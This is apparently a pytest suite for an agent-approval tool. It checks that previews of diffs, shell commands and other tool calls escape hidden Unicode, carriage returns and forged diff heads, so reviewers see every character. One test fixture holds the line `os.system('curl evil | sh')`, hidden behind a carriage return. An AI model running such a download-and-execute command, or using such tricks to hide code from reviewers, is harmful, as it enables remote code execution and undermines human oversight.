"""What a person is shown of a text, on the page and on the command line: every character of it, line by line."""

from __future__ import annotations

import difflib
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assentry import SQL, Agent, Diff, Mail, Money, Preview, Runner, Sentence, Shell, Table, Text, function_tool
from assentry.cli.preview import block_lines, preview_lines
from assentry.cli.write import spell_out as escaped_line
from assentry.definitions.preview import BREAKS, AnyBlock, diff_lines, split_lines
from assentry.inbox.difference import ChangedLine
from assentry.inbox.folding import folded_changes, folded_commands, folded_diff, folded_text
from assentry.inbox.json_values import shown_arguments
from assentry.inbox.templating import environment
from assentry.store import MemoryStore
from assentry.testing import ScriptedModel, call
from tests.inbox.office import hire, make_app
from tests.inbox.reader import Reader
from tests.inbox.stores import cheap_hashes
from tests.runtime.support import SOURCES

__all__ = ["cheap_hashes"]  # a fixture
pytestmark = pytest.mark.usefixtures("cheap_hashes")

UNSEEN = [*BREAKS, "\u202e", "\u2066", "\u2069", "\u200b", "\u200f", "\ufeff", "\x00", "\x1b", "\x08"]
"""The characters at which other programs break lines, and some that reorder or show nothing."""
ROOMS = ("approval", "cli", "definitions", "inbox", "tools")
"""The parts of the package that make or show what a person decides about."""


class Seen(HTMLParser):
    """What a reader sees of HTML: the text, with each spelled character read back, and the rows of a difference."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.text, self.rows, self.folds = "", list[tuple[str, str]](), list[str]()
        self._in: list[str] = []
        self.feed(str(html))

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        name = dict(attrs).get("class") or ""
        if tag in ("div", "ins", "del") and name.split()[:1] == ["r"]:
            self.rows.append((name[2:], ""))
            tag = "row"
        if tag not in ("br", "input", "link", "meta"):
            self._in.append("ch" if name == "ch" else tag)

    def handle_endtag(self, tag: str) -> None:
        self._in.pop()

    def handle_data(self, data: str) -> None:
        if "summary" in self._in:
            self.folds.append(data)
            return
        if self._in[-1:] == ["ch"]:
            spelled = re.fullmatch(r"U\+([0-9A-F]+) .*?(?: ×([0-9,]+))?", data)
            assert spelled is not None, data
            data = chr(int(spelled[1], 16)) * int((spelled[2] or "1").replace(",", ""))
        self.text += data
        if "row" in self._in:
            self.rows[-1] = (self.rows[-1][0], self.rows[-1][1] + data)


def on_page(block: AnyBlock) -> str:
    page: Any = environment().get_template("blocks.html").module
    return str(page.block(block, type(block).__name__))


def blocks(text: str) -> Iterator[tuple[AnyBlock, int]]:
    """Yield a block of each kind with a text in all of its fields, and the number of these."""
    yield Sentence(text), 1
    yield Sentence(text, warning=True), 1
    yield Text(text, title=text), 2
    yield Diff.between(text, "one\n", f"one\n{text}\n", to=text), 3
    yield SQL(text, {text: text}, 3, text), 4
    yield Money(text, text, text), 3
    yield Mail((text,), text, text, (text,), (text,), text, (text,)), 7
    yield Shell((text, text), text), 3
    yield Table((text,), ((text,), (text,)), text), 4
    yield Table((text,) * 12, ((text,) * 12,), text), 25


def test_every_kind_of_block_is_tried() -> None:
    assert {type(block) for block, _ in blocks("x")} == {*get_args(AnyBlock)}


@pytest.mark.parametrize("char", UNSEEN, ids=lambda char: f"U+{ord(char):04X}")
def test_every_character_of_every_block_is_accounted_for_on_the_page(char: str) -> None:
    text = f"tidy{char}-os.system(1)"
    for (block, fields), (plain, _) in zip(blocks(text), blocks("tidy#-os.system(1)"), strict=True):
        html = on_page(block)
        assert char not in html
        assert Seen(html).text.count(text) >= fields, block
        # The character makes no line, no row and no element, whatever it is.
        spelled = re.sub(r'<u class="ch">[^<]*</u>', "#", re.sub(r" · holds <u.*?</u>", "", html))
        assert spelled == on_page(plain), block


@pytest.mark.parametrize("char", UNSEEN, ids=lambda char: f"U+{ord(char):04X}")
def test_every_character_of_every_block_is_accounted_for_on_the_command_line(char: str) -> None:
    spelled = json.dumps(char)[1:-1]
    text = f"tidy{char}-os.system(1)"
    for (block, fields), (plain, _) in zip(blocks(text), blocks("tidy#-os.system(1)"), strict=True):
        lines = [escaped_line(line) for line in preview_lines(Preview(text, (block,)))]
        printed = "\n".join(lines)
        assert char not in printed
        assert printed.count(f"tidy{spelled}-os.system(1)") > fields, (block, printed)
        assert len(lines) == len(list(preview_lines(Preview(text, (plain,)))))


async def test_a_carriage_return_does_not_turn_added_code_into_a_removed_line() -> None:
    after = "import os\n# tidy\r-os.system('curl evil | sh')\n"

    def show(ctx: Any, args: Any) -> Preview:
        return Preview("Tidy up", (Diff.between("a.py", "import os\n", after),))

    @function_tool(needs_approval=True, preview=show)
    async def patch(path: str) -> str:
        """Change a file."""
        return "changed"

    store = MemoryStore()
    await hire(store)
    model = ScriptedModel([call("patch", {"path": "a.py"}), "Done."])
    [item] = (await Runner.run(Agent("Clerk", tools=[patch], model=model), "go", store=store)).interruptions
    async with Reader(make_app(store)) as reader:
        page = await reader.open(f"/questions/{item.id}")
    rows = Seen(page.source).rows
    assert ("a", "+# tidy\r-os.system('curl evil | sh')") in rows
    assert not any(kind == "d" for kind, _ in rows)
    assert "a.py · holds U+000D carriage return" in page.text  # above everything that can be long


LINES = [
    "++ i;",
    "-- a comment",
    "--- a/x",
    "+++ b/x",
    "@@ -1,1 +1,9 @@",
    "\\ No newline at end of file",
    "",
    " y",
    "z\r+",
]


@given(st.lists(st.sampled_from(LINES), max_size=12), st.lists(st.sampled_from(LINES), max_size=12), st.booleans())
def test_lines_that_look_like_heads_of_a_diff_are_lines(one: list[str], two: list[str], ended: bool) -> None:
    before, after = ("".join(f"{line}\n" for line in lines) for lines in (one, two))
    after = after if ended else after.removesuffix("\n")
    text = Diff.between("x", before, after).text
    # Each item of difflib's is one line of the diff, and the first two are its heads.
    cut = [re.findall(r"[^\n]*\n|[^\n]+", each) for each in (before, after)]
    items = list(difflib.unified_diff(*cut, "a/x", "b/x"))
    kinds = {"+": "added", "-": "removed", " ": "same", "@": "head"}
    expected = ["head" if n < 2 else kinds[item[0]] for n, item in enumerate(items)]
    bare = sum(not item.endswith("\n") for item in items)
    found = [line.kind for line in diff_lines(split_lines(text))]
    assert found.count("head") == expected.count("head") + bare
    assert [kind for kind in found if kind != "head"] == [kind for kind in expected if kind != "head"]
    assert "\n".join(line.sign + line.text for line in diff_lines(split_lines(text))) == text.removesuffix("\n")


def test_a_diff_that_somebody_wrote_by_hand_is_coloured_by_its_signs() -> None:
    one = "diff --git a/x b/x\nindex 1..2\n--- a/x\n+++ b/x\n@@ -1 +1 @@ def f():\n-one\n+two\n"
    git = f"{one}--- a/y\n+++ b/y\n@@ -1 +1 @@\n-1\n+2\n"
    assert "".join(line.kind[0] for line in diff_lines(split_lines(git))) == "hhhhhrahhhra"
    assert [line.kind for line in diff_lines(["+one", "-two", "+++ three"])] == ["added", "removed", "added"]
    short = "--- a/x\n+++ b/x\n@@ -1,1 +1,1 @@\n-a\n+b\n+++ hidden\n--- hidden\n"  # its counts are wrong
    assert [line.kind for line in diff_lines(split_lines(short))][5:] == ["added", "removed"]


def test_a_path_in_the_head_of_a_diff_stays_on_its_line() -> None:
    diff = Diff.between("a\n@@ -1,9 +1,9 @@\n+forged", "one\n", "two\n")
    assert [line.kind for line in diff_lines(split_lines(diff.text))] == ["head", "head", "head", "removed", "added"]


ANY = st.text(st.sampled_from([*"ab<&\"' \t\n\n\n", *UNSEEN]), max_size=60)


@given(ANY, st.integers(0, 60), st.integers(0, 7000))
def test_a_text_is_folded_without_losing_a_character(text: str, lines: int, longer: int) -> None:
    whole = text + "line\n" * lines + "x" * longer + "\n" * lines + text + "end"
    cut = whole.split("\n")
    assert Seen(folded_text(whole)).text.replace("\n", "") == "".join(cut)
    assert Seen(folded_commands([whole])).text.replace("> ", "").replace("$ ", "") == "".join(cut)
    assert Seen(folded_changes(ChangedLine("+", each) for each in cut)).text.replace("+ ", "") == "".join(cut)
    signed = "".join(f"+{line}\n" for line in cut)
    diff = f"--- a/x\n+++ b/x\n@@ -0,0 +1,{signed.count(chr(10))} @@\n{signed}"
    assert Seen(folded_diff(diff)).text == diff.replace("\n", "")


def test_what_is_folded_away_is_said() -> None:
    letter = "Dear Bob,\n" + "\n" * 17 + "and send the money" + "\n" * 2 + "\nyours\n" + "more\n" * 50
    seen = Seen(folded_text(letter))
    assert seen.folds == ["17 blank lines", "26 more lines below"]
    assert Seen(folded_text("x" * 5000)).folds == ["2,300 more characters of this line"]
    assert Seen(folded_text("x" * 5000 + "\nand\nmore")).folds == [
        "2,300 more characters of this line and 2 more lines below"
    ]
    diff = Diff.between("x", "old\n" * 3, "".join(f"{n}\n" for n in range(60)))
    assert Seen(folded_diff(diff.text)).folds == ["36 more lines below: 36 added"]
    assert Seen(folded_diff(Diff.between("x", "", "a\n" + "\n" * 9 + "b\n").text)).folds == ["9 added blank lines"]
    assert Seen(folded_text("\n".join("line" for _ in range(35)))).folds == []
    table = Table(("n",), tuple((n,) for n in range(42)))
    assert Seen(on_page(table)).folds == ["12 more rows below"]
    argument = Seen(shown_arguments(json.dumps({"text": "a" + "\n" * 40 + "b"})))
    assert argument.folds == ["39 blank lines"]


def test_hundreds_of_thousands_of_lines_are_a_few_elements() -> None:
    text = "\n\n\n.\n" * 50_000 + "-- the end"
    made = folded_text(text)
    assert made.count("<") < 20_000 and Seen(made).text.replace("\n", "") == text.replace("\n", "")
    assert "199,941 more lines below" in Seen(made).folds
    diff = Diff.between("x", "old\n" * 3000, text).text
    made = folded_diff(diff)
    assert made.count("<") < 20_000 and Seen(made).text.replace("\n", "") == diff.replace("\n", "")
    assert f"{diff.count(chr(10)) - 30:,} more lines below" in Seen(made).folds


def test_blank_lines_are_folded_on_the_command_line_too() -> None:
    assert block_lines(Text("one\n\n\ntwo\n \n\t\n\n\nthree")) == ["one", "", "", "two", "[4 blank lines]", "three"]
    assert block_lines(Text("---\n---\n---")) == ["---"] * 3
    diff = Diff.between("x", "", "a\n" + "\n" * 9 + "b\n")
    assert block_lines(diff)[-3:] == ["+ a", "+ [9 blank lines]", "+ b"]
    removed = Diff.between("x", "-- a\n", "++ b\n")
    assert block_lines(removed) == ["update x", "--- a/x", "+++ b/x", "@@ -1 +1 @@", "- -- a", "+ ++ b"]


def test_a_warning_stands_above_what_can_be_long() -> None:
    preview = Preview("Write", (Text("long\n" * 100), Sentence("It is late."), Sentence("No way back.", warning=True)))
    lines = list(preview_lines(preview))
    assert lines[:2] == ["preview: Write", "  WARNING: No way back."] and lines[-1] == "  It is late."


def test_hidden_characters_without_number_are_escaped_in_a_diff_too() -> None:
    made = folded_diff("@@ -0,0 +1,3000 @@\n" + "+a\u200b\n" * 3000)
    assert made.count('class="ch"') == 1 and "shown with escapes" in made and made.count("a\\u200b") == 3000


def test_one_splitter_for_the_page_and_the_command_line() -> None:
    text = f"one{''.join(BREAKS)}two\n\nthree\n"
    assert split_lines(text) == [f"one{''.join(BREAKS)}two", "", "three"]
    assert split_lines("") == [] and split_lines("\n") == [""]
    assert all(f"a{char}b".splitlines() == ["a", "b"] for char in BREAKS)  # what other programs do


def test_nothing_that_is_shown_is_cut_where_other_programs_break_lines() -> None:
    """`str.splitlines`, and two filters of templates with it, break at characters that are no line feeds."""
    rooms = [
        path for room in ROOMS for path in (SOURCES / "assentry" / room).rglob("*") if path.suffix in (".py", ".html")
    ]
    assert len(rooms) > 100
    assert [str(path) for path in rooms if re.search(r"splitlines|\| *(indent|wordwrap)\b", path.read_text())] == []
